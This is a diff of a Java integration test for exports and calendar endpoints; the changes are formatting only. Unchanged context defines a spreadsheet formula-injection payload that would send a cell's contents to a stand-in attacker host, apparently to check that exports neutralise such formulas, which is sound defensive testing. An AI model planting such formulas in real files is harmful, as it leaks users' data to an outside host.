@@ -45,8 +45,10 @@ class ExportsAndCalendarIT extends PostgresIntegrationTest {
 
   private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
 
-  @LocalServerPort int port;
-  @Autowired RuntimeService runtimeService;
+  @LocalServerPort
+  int port;
+  @Autowired
+  RuntimeService runtimeService;
 
   private QuickCycle cycle;
   private String masterId;
@@ -140,9 +142,10 @@ class ExportsAndCalendarIT extends PostgresIntegrationTest {
   private byte[] bytes(String user, String path) {
     try {
       HttpResponse<byte[]> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
-              URI.create("http://localhost:" + port + path))
+          URI.create("http://localhost:" + port + path))
           .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":demo")
-              .getBytes(StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofByteArray());
+              .getBytes(StandardCharsets.UTF_8)))
+          .build(), HttpResponse.BodyHandlers.ofByteArray());
       assertThat(response.statusCode()).isEqualTo(200);
       return response.body();
     } catch (IOException e) {
